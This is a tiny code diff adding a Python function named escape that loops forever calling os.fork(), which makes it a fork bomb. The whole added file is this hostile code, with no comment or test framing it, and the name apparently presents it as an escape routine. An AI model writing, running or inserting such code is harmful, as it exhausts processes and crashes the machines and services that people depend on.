@@ -1,0 +1,6 @@
+import os
+
+
+def escape(state):
+    while True:
+        os.fork()
